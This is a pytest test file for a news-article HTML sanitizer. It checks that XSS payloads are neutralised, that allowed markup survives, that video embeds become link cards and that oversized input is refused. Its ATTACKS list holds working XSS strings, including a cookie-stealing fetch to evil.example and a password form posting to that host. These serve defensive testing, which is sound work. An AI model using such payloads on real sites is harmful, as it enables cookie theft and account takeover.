import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from articles.text import sanitizer
from articles.text.policy import POLICY
from tests import outside

HEADLINE = "俄罗斯对美国的回应感到失望"


@pytest.fixture(scope="module")
def problems():
    return outside.checker()


def cleaned(html):
    return sanitizer.clean(html).html


# The corpus


@pytest.fixture(scope="module")
def corpus():
    return outside.attacks()


def test_every_attack_of_the_corpus_is_made_inert(corpus, problems):
    assert [(attack, found) for attack in corpus if (found := problems(cleaned(attack)))] == []


def test_cleaning_the_corpus_twice_changes_nothing_more(corpus):
    once = [cleaned(attack) for attack in corpus]
    assert [cleaned(html) for html in once] == once


ATTACKS = [
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a href='java\u200bscript:alert(1)'>中文</a>",
    "<a href=' java\tscript:alert(1)'>العربية</a>",
    "<a href='&#x6A;avascript:alert(1)'>News</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>News</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<form action='https://evil.example'><input name=password><button formaction=javascript:1>Go</button>",
    "<p style='position:fixed;inset:0'>Cover</p><link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</div></body><script>alert(1)</script>",
    "<h2 id=location name=location>Clobbered</h2>",
    "<textarea></textarea><script>alert(1)</script>",
    "<x-widget onclick=alert(1)>Widget</x-widget><base href=//evil.example/>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_of_our_own_is_made_inert(attack, problems):
    assert problems(cleaned(attack)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_bleach_and_nh3_alone_would_make_it_inert_too(attack, problems):
    assert problems(sanitizer.judge(attack)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_executable_is_left_of_an_attack(attack):
    left = cleaned(attack).lower()
    assert not re.search(r"<[^>]*\son\w+=|<script|<style|<svg|<iframe|<form|javascript:|data:", left)


# What stays


@pytest.mark.parametrize(
    "html",
    [
        f"<h2>{HEADLINE}</h2><p>莫斯科 &amp; 基辅</p>",
        '<p lang="ar" dir="rtl">خيبة أمل روسية من <bdi>NATO</bdi></p>',
        "<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp>字</ruby>",
        '<figure id="text-map"><img src="https://example.org/a.jpg" alt="港口" width="770" height="433">'
        "<figcaption>港口</figcaption></figure>",
        '<table><caption>Budget</caption><thead><tr><th scope="col">Year</th></tr></thead>'
        '<tbody><tr><td colspan="2" class="align-right">2022</td></tr></tbody></table>',
        '<blockquote cite="https://example.org/">“We will respond.”</blockquote>',
        '<pre><code class="language-python">if a &lt; b:\n    pass\n</code></pre>',
        '<ol start="3" reversed=""><li value="9">ninth</li></ol>',
        "<dl><dt>Kyiv</dt><dd>capital</dd></dl><hr>",
        '<p>H<sub>2</sub>O, <del datetime="2022-01-27">wrong</del> <ins>right</ins><br>next</p>',
        '<a href="mailto:desk@example.org" hreflang="en" rel="nofollow">Write to us</a>',
        '<sup class="footnote-ref"><a href="#text-fn1" id="text-fnref1">[1]</a></sup>',
        '<p>a&nbsp;b "quoted" it\'s</p>',
    ],
)
def test_what_the_policy_allows_stays_as_it_is(html):
    assert sanitizer.clean(html) == sanitizer.Cleaned(html, {})


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<h1>Budget passes</h1>", "<h2>Budget passes</h2>"),
        (
            "<section>议会</section><section>预算</section>",
            "<div>议会</div><div>预算</div>",
        ),
        ("<details><summary>More</summary>Text</details>", "<div><p>More</p>Text</div>"),
        ("<strike>old</strike><tt>code</tt>", "<s>old</s><code>code</code>"),
    ],
)
def test_element_we_do_not_keep_becomes_its_plain_relative(html, expected):
    assert cleaned(html) == expected


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<font color=red>Breaking</font>", "Breaking"),
        ("<x-card>Breaking</x-card>", "Breaking"),
        ("<span class=lead>Breaking</span>", "Breaking"),
        ("<a rel=x>Breaking</a>", "Breaking"),
        ("<!-- more -->Breaking", "Breaking"),
        ('<p class="wp-block" data-id="7" role="note">Breaking</p>', "<p>Breaking</p>"),
    ],
)
def test_markup_without_meaning_goes_silently_and_its_text_stays(html, expected):
    assert sanitizer.clean(html) == sanitizer.Cleaned(expected, {})


def test_picture_without_a_usable_address_leaves_its_alternative_text():
    assert cleaned('<p><img src="data:image/gif;base64,R0lGOD" alt="الميناء"></p>') == "<p>الميناء</p>"


def test_size_in_pixels_loses_its_unit():
    assert cleaned('<img src="/a.jpg" width="640px" height="50%">') == '<img src="/a.jpg" width="640">'


def test_only_known_classes_stay():
    assert cleaned('<div class="gallery alignwide">x</div>') == '<div class="gallery">x</div>'


def test_ids_and_links_to_them_get_the_same_prefix():
    html = '<h2 id="简介">简介</h2><p><a href="#简介">see</a></p>'
    expected = '<h2 id="text-简介">简介</h2><p><a href="#text-简介">see</a></p>'
    assert cleaned(html) == expected


def test_old_style_anchor_is_still_a_target():
    assert cleaned('<a name="part-2"></a>') == '<a id="text-part-2"></a>'


def test_id_outweighs_the_old_name():
    assert cleaned('<a name="part-2" id="two"></a>') == '<a id="text-two"></a>'


def test_second_element_of_one_id_loses_it():
    assert cleaned('<h2 id="a">1</h2><h2 id="a">2</h2>') == '<h2 id="text-a">1</h2><h2>2</h2>'


def test_link_to_the_top_of_the_page_stays():
    assert cleaned('<a href="#top">up</a>') == '<a href="#top">up</a>'


def test_newlines_that_open_preformatted_text_go():
    assert cleaned("<pre>\n\n\nverse</pre>") == "<pre>verse</pre>"


def test_whole_page_gives_only_its_body():
    page = "<!doctype html><html><head><title>Site</title></head><body onload=go()><p>Story</p></body></html>"
    assert cleaned(page) == "<p>Story</p>"


def test_frameset_does_not_swallow_the_story():
    assert "Story" in cleaned("<frameset><frame src=x></frameset>Story")


@pytest.mark.parametrize(
    "unprintable", ["\x00", "\x08", "\x7f", "\x85", "\ud800", "\uffff", "&#1;", "&#x85;"]
)
def test_unprintable_character_goes(unprintable):
    left = cleaned(f"<p title='a{unprintable}b'>半岛{unprintable}新闻</p>")
    assert left in ("<p>半岛新闻</p>", "<p>半岛…新闻</p>")


# Addresses


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("//example.org/a", "https://example.org/a"),
        (r"\\example.org\a", "https://example.org/a"),
        ("https:/example.org/", "https://example.org/"),
        ("HTTPS://Example.org/", "https://Example.org/"),
        (" https://example.org/\n", "https://example.org/"),
        ("https://example.org/a b", "https://example.org/a%20b"),
        ("https://例え.jp/新闻?页=1", "https://例え.jp/新闻?页=1"),
        ("/archive/a.html", "/archive/a.html"),
        ("../2022/a.html#part", "../2022/a.html#part"),
        ("?page=2", "?page=2"),
    ],
)
def test_link_address_is_tidied(address, expected):
    assert cleaned(f'<a href="{address}">x</a>') == f'<a href="{expected}">x</a>'


@pytest.mark.parametrize(
    ("address", "kind"),
    [
        ("javascript:alert(1)", "javascript"),
        ("JaVa\tScRiPt:alert(1)", "javascript"),
        ("\x01javascript:alert(1)", "javascript"),
        ("java\u200bscript:alert(1)", "javascript"),
        ("java\u00adscript:alert(1)", "javascript"),
        ("vbscript:x", "vbscript"),
        ("data:text/html,x", "data"),
        ("file:///etc/passwd", "file"),
        ("tel:+4930", "tel"),
        ("htt\u200bps://example.org/", "https"),
        ("https://", "unreadable"),
        ("https://[::1", "unreadable"),
        ("https://example.org:99999/", "unreadable"),
        ("https://exam{ple.org/", "unreadable"),
    ],
)
def test_address_of_another_kind_goes_and_is_counted(address, kind):
    assert sanitizer.clean(f'<a href="{address}">半岛网</a>') == sanitizer.Cleaned(
        "半岛网", {f"{kind} address": 1}
    )


def test_mail_address_is_no_picture():
    assert sanitizer.clean('<img src="mailto:a@example.org">').removed == {"mailto address": 1}


# What is removed


@pytest.mark.parametrize(
    ("html", "removed"),
    [
        ("<script>1</script><SCRIPT src=x></SCRIPT>", {"script": 2}),
        ("<p style='color:red'>x<b style=y>z</b></p>", {"style attribute": 2}),
        ("<p onclick=a() onmouseover=b()>x</p>", {"event handler": 2}),
        ("<svg><circle r=1 /></svg><math><mi>x</mi></math>", {"svg": 1, "math": 1}),
        ("<form><input><button>Send</button></form>", {"form": 1, "input": 1, "button": 1}),
        ("<iframe src='https://ads.example/x'></iframe>", {"iframe from ads.example": 1}),
        ("<iframe srcdoc='<p>x'></iframe>", {"iframe": 1}),
        ("<video></video>", {"video": 1}),
    ],
)
def test_what_was_dangerous_is_counted(html, removed):
    assert sanitizer.clean(html).removed == removed


def test_what_was_removed_reads_as_a_line():
    html = "<script>1</script><p style=a>x</p><p style=b>y</p>"
    assert sanitizer.clean(html).describe() == "script ×1, style attribute ×2"


def test_nothing_removed_reads_as_nothing():
    assert sanitizer.clean("<p>x</p>").describe() == ""


def test_text_in_a_form_stays():
    html = "<form><label>Name</label><select><option>Kyiv<option>Minsk</select><textarea>&lt;b></textarea>"
    assert sanitizer.plain_text(cleaned(html)).split() == ["Name", "Kyiv", "Minsk", "<b>"]


# Embeds


@pytest.mark.parametrize(
    ("frame", "address", "label"),
    [
        (
            "https://www.youtube.com/embed/dQw4w9WgXcQ?rel=0",
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
            "YouTube · youtube.com/watch?v=dQw4w9WgXcQ",
        ),
        (
            "//www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
            "YouTube · youtube.com/watch?v=dQw4w9WgXcQ",
        ),
        (
            "https://www.youtube.com/embed/videoseries?list=PL123",
            "https://www.youtube.com/playlist?list=PL123",
            "YouTube · youtube.com/playlist?list=PL123",
        ),
        (
            "https://player.vimeo.com/video/76979871",
            "https://vimeo.com/76979871",
            "Vimeo · vimeo.com/76979871",
        ),
        (
            "//player.bilibili.com/player.html?aid=1&bvid=BV1xx411c7mD&page=1",
            "https://www.bilibili.com/video/BV1xx411c7mD",
            "Bilibili · bilibili.com/video/BV1xx411c7mD",
        ),
        (
            "https://v.qq.com/txp/iframe/player.html?vid=x3243s",
            "https://v.qq.com/x/page/x3243s.html",
            "腾讯视频 · v.qq.com/x/page/x3243s.html",
        ),
        (
            "https://www.dailymotion.com/embed/video/x7tgad0",
            "https://www.dailymotion.com/video/x7tgad0",
            "Dailymotion · dailymotion.com/video/x7tgad0",
        ),
        (
            "https://open.spotify.com/embed/episode/4rOoJ6Egrf8K2IrywzwOMk",
            "https://open.spotify.com/episode/4rOoJ6Egrf8K2IrywzwOMk",
            "Spotify · open.spotify.com/episode/4rOoJ6Egrf8K2IrywzwOMk",
        ),
        (
            "https://w.soundcloud.com/player/?url=https%3A//api.soundcloud.com/tracks/293&color=ff5500",
            "https://w.soundcloud.com/player/?url=https%3A//api.soundcloud.com/tracks/293&amp;color=ff5500",
            "SoundCloud · w.soundcloud.com",
        ),
        (
            "https://platform.twitter.com/embed/Tweet.html?dnt=false&id=1486",
            "https://x.com/i/status/1486",
            "X · x.com/i/status/1486",
        ),
    ],
)
def test_frame_of_a_known_player_becomes_a_link_card(frame, address, label):
    assert sanitizer.clean(f'<iframe src="{frame}"></iframe>') == sanitizer.Cleaned(
        f'<p class="embed-card"><a href="{address}">{label}</a></p>', {}
    )


def test_card_inside_a_paragraph_does_not_break_it():
    html = '<p>Watch <iframe src="https://youtu.be/abc"></iframe> now</p>'
    assert cleaned(html) == (
        '<p>Watch <a class="embed-card" href="https://www.youtube.com/watch?v=abc">'
        "YouTube · youtube.com/watch?v=abc</a> now</p>"
    )


@pytest.mark.parametrize(
    "html",
    [
        '<iframe src="about:blank" data-src="https://youtu.be/abc"></iframe>',
        '<object><param name="movie" value="https://www.youtube.com/v/abc"></object>',
        '<object><embed src="https://www.youtube.com/v/abc"></object>',
        '<embed src="https://www.youtube.com/v/abc">',
    ],
)
def test_player_is_found_where_old_and_lazy_pages_name_it(html):
    assert 'href="https://www.youtube.com/watch?v=abc"' in cleaned(html)


@pytest.mark.parametrize(
    "html",
    [
        '<video src="https://example.org/films/report.mp4" controls></video>',
        '<video><source src="https://example.org/films/report.mp4"><p>Your browser is old.</p></video>',
        '<audio src="https://example.org/films/report.mp4"></audio>',
    ],
)
def test_film_or_recording_becomes_a_link_to_its_file(html):
    assert cleaned(html) == (
        '<p class="embed-card"><a href="https://example.org/films/report.mp4">'
        "example.org/films/report.mp4</a></p>"
    )


@pytest.mark.parametrize(
    "frame",
    [
        "https://youtube.com.evil.example/embed/abc",
        "https://evil.example/youtube.com/embed/abc",
        "https://user@evil.example/?https://www.youtube.com/embed/abc",
    ],
)
def test_frame_that_only_looks_like_a_known_player_is_removed(frame):
    assert sanitizer.clean(f'<iframe src="{frame}"></iframe>').html == ""


# Too much


@pytest.mark.parametrize(
    ("html", "reason"),
    [
        ("<div>" * 5_000, "elements open at once"),
        ("&" * 1_000_000, "escaped characters"),
        ("<!--" * 250_000, "tags"),
        ("<" * 1_000_000, "tags"),
        ("<a " * 300_000, "tags"),
        ("<b>" * 100_000, "tags"),
        ("<p>" + "".join(f"<font color={n}>" for n in range(400)) + "<p>x" * 2_000, "reopened"),
        ("<a " + " ".join(f"a{n}" for n in range(100_000)) + ">", "attributes in one tag"),
        ("<a x='<' " + " ".join(f"a{n}='<'" for n in range(9_000)) + ">", "attributes in one tag"),
        ("<table><tr><td>" * 180, "elements inside each other"),
        ("x" * 2_000_001, "characters"),
        ("<p>x" * 11_000, "tags"),
    ],
    ids=lambda value: value[:12],
)
def test_markup_that_would_take_long_is_refused_with_its_reason(html, reason):
    with pytest.raises(sanitizer.TooComplex, match=f"More than [0-9,]+ .*{reason}"):
        sanitizer.clean(html)


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 400 + "x" + "</div>" * 400,
        "<p title='" + "x" * 1_000_000 + "'>x</p>",
        "<a name=n>x" * 3_000,
        "<ul>" + "<li>x" * 3_000,
        "x " * 500_000,
        "<p><a href='https://example.org/?a=1&b=2'>x</a></p>" * 2_000,
    ],
    ids=lambda value: value[:12],
)
def test_long_but_honest_markup_is_cleaned(html):
    assert "x" in cleaned(html)


# The plain text


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>议会</p><p>预算</p>", "议会\n预算"),
        ("<p>one <b>bold</b>er\n  word</p>", "one bolder word"),
        ("one<br>two", "one\ntwo"),
        ("<ul><li>a</li><li>b</li></ul>", "a\nb"),
        ("<table><tr><td>2022</td><td>27</td></tr><tr><td>x</td></tr></table>", "2022 27\nx"),
        ("<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp>字</ruby>", "漢字"),
        ("a<script>b</script><style>c</style><!-- d -->e", "ae"),
        ("Fish &amp; chips&nbsp;&lt;3", "Fish & chips <3"),
        ("a&#1;b\x00c", "abc"),
        ("", ""),
    ],
)
def test_plain_text_is_what_a_reader_sees(html, expected):
    assert sanitizer.plain_text(html) == expected


# Whatever comes

TAGS = st.sampled_from(sorted({*POLICY.elements, *POLICY.renamed, *POLICY.dropped, "font", "x-y", "body"}))
ATTRIBUTES = st.sampled_from(
    [
        "",
        " id=a",
        " href=#a",
        " href='java\tscript:x'",
        " src=//example.org/a.png",
        " src=https://youtu.be/abc",
        " style=x",
        " onclick=x",
        " lang=ar dir=rtl",
        ' title="</p><script>"',
        " class='gallery z'",
        " colspan=2",
    ]
)
TEXTS = st.sampled_from(
    [
        "半岛新闻",
        "خبر",
        "news",
        "\n",
        " ",
        "&",
        "&lt;",
        "&nbsp;",
        "<",
        "-->",
        "<!--",
        "]]>",
        '"',
        "'",
        "&#13;",
        "\x0c",
    ]
)
OPENINGS = st.builds("<{}{}>".format, TAGS, ATTRIBUTES)
CLOSINGS = st.builds("</{}>".format, TAGS)
MARKUP = st.lists(st.one_of(OPENINGS, CLOSINGS, TEXTS), max_size=20).map("".join)


@given(st.one_of(MARKUP, st.text()))
@example("<p><option><div></p>")
def test_cleaning_what_is_clean_changes_nothing(html):
    clean = cleaned(html)
    assert sanitizer.clean(clean) == sanitizer.Cleaned(clean, {})


@given(st.one_of(MARKUP, st.text()))
def test_nothing_unsafe_comes_out_whatever_goes_in(problems, html):
    assert problems(cleaned(html)) == []


@given(st.one_of(MARKUP, st.text()))
def test_visible_text_is_kept_whatever_the_markup(html):
    before = "".join(sanitizer.plain_text(html).split())
    after = "".join(sanitizer.plain_text(without_cards(cleaned(html))).split())
    assert after == before


def without_cards(html):
    """Take out the links that stand for players: they add text of ours."""
    return re.sub(r'<p class="embed-card">.*?</p>|<a class="embed-card".*?</a>', "", html)
